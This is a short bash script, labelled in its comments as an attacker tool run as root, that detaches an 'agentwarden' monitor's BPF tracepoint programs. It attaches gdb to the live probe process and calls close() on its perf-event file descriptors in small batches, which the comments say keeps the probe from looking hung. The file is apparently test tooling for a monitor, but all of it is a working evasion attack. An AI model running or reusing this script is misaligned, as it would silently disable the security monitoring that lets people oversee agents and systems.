#!/bin/bash
# Attacker (root): detach agentwarden's BPF programs while the probe lives.
# Each tracepoint program stays attached as long as its perf event fd is
# open in the probe; this attaches to the probe (ptrace, as root may) and
# makes it close every one, BATCH at a time (each close unregisters a
# tracepoint, which takes a while: a long stop would look like a hung probe).
# Usage: detach_probe.sh PROBE_PID [BATCH]. Prints "closed N from START_NS to END_NS"
# (wall clock) per batch.
set -eu
pid=$1 batch=${2:-12}
fds=()
for fd in /proc/"$pid"/fd/*; do
    if [ "$(readlink "$fd" 2>/dev/null)" = "anon_inode:[perf_event]" ]; then
        fds+=("${fd##*/}")
    fi
done
[ ${#fds[@]} -gt 0 ] || { echo "no perf event fds in $pid" >&2; exit 1; }
for ((i = 0; i < ${#fds[@]}; i += batch)); do
    started=$(date +%s%N)
    commands=()
    for fd in "${fds[@]:i:batch}"; do
        commands+=(-ex "call (int)close($fd)")
    done
    # Only libc's symbols (close): the probe maps LLVM, whose symbols take long to load.
    gdb -batch -nx -iex "set auto-solib-add off" -p "$pid" -ex "sharedlibrary libc" "${commands[@]}" \
        > /dev/null 2>&1 || true   # the probe may exit meanwhile: it noticed
    echo "closed ${#commands[@]} from $started to $(date +%s%N)"
    [ -d /proc/"$pid" ] || break
done
